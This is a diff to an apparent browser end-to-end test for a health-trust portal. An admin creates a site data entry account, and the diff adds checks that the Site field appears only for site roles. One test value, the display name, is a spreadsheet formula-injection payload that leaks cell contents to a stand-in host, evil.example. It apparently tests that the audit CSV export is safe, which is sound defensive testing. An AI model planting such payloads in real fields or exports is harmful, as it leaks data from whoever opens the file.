@@ -46,6 +46,14 @@ export const flows = [
     name: 'admin creates a site data entry account for S3, resets its password, disables it; the audit log and its CSV show it',
     async run({ baseUrl, browser, signedInPage, demoEmail, screenshot, outDir }) {
       const admin = await signedInPage('network_admin');
+      // With JavaScript the site field shows only for the roles that belong to a site.
+      await admin.goto(`${baseUrl}/portal/admin/accounts`);
+      await admin.waitForLoadState('networkidle');
+      const siteField = admin.getByLabel('Site', { exact: true });
+      await admin.getByLabel('Role').selectOption({ label: 'Improvement faculty' });
+      await siteField.waitFor({ state: 'hidden' });
+      await admin.getByLabel('Role').selectOption({ label: 'Site lead' });
+      await siteField.waitFor({ state: 'visible' });
       const email = `data.s3.${Date.now()}@trust-c.nhs.uk`;
       const displayName = '=HYPERLINK("https://evil.example/?leak="&A1,"Open") S3 data lead';
       await createAccountInBrowser(admin, baseUrl, {
